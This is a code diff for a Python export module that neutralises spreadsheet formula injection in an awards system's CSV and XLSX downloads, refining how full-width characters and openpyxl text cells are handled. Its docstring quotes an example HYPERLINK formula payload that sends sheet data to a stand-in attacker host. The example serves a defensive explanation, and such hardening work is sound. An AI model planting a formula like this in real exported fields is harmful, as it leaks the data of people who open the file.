@@ -3,9 +3,10 @@
 Titles and names come from correspondents. Excel, WPS and LibreOffice run a cell that starts
 with = + - @ (and, per OWASP, a tab or a carriage return) as a formula, so a title such as
 `=HYPERLINK("http://evil.example/?d="&A2,"点此查看")` in an editor's download would fetch a
-URL and leak the sheet. Chinese input methods type the full-width ＝＋－＠; Excel's East Asian
-editions turn them into formulas on entry, so they count too (the cost is a quote in front
-of a rare title). Every spreadsheet export (awards/export.py) writes text through here.
+URL and leak the sheet. Chinese input methods type the full-width ＝＋－＠, and Excel turns a
+full-width ＝ typed at the start of a cell into a formula; whether a spreadsheet does so when
+it opens a file we could not check, so they count too (the cost: a quote in front of a rare
+title in a CSV). Every spreadsheet export (awards/export.py) writes text through here.
 
 Only text is touched: numbers, dates and scores stay numbers, a negative score included.
 """
@@ -25,11 +26,13 @@ def csv_text(value: str) -> str:
 
 
 def xlsx_cell(cell: Cell) -> None:
-    """Keep a text cell text: openpyxl turns any string starting with "=" into a formula.
+    """Keep a text cell text: openpyxl stores a string starting with "=" as a formula (and
+    "#N/A" as an error value).
 
-    The value keeps its exact characters (no quote added); the cell is stored as a string, and
-    Excel's own "quote prefix" style keeps it text when an editor edits the cell later.
+    The value keeps its exact characters (no quote added). A formula-like one also gets
+    Excel's own "quote prefix" style, which keeps it text when an editor edits the cell.
     """
-    if looks_like_formula(cell.value):
+    if isinstance(cell.value, str):
         cell.data_type = "s"
-        cell.quotePrefix = True
+        if looks_like_formula(cell.value):
+            cell.quotePrefix = True
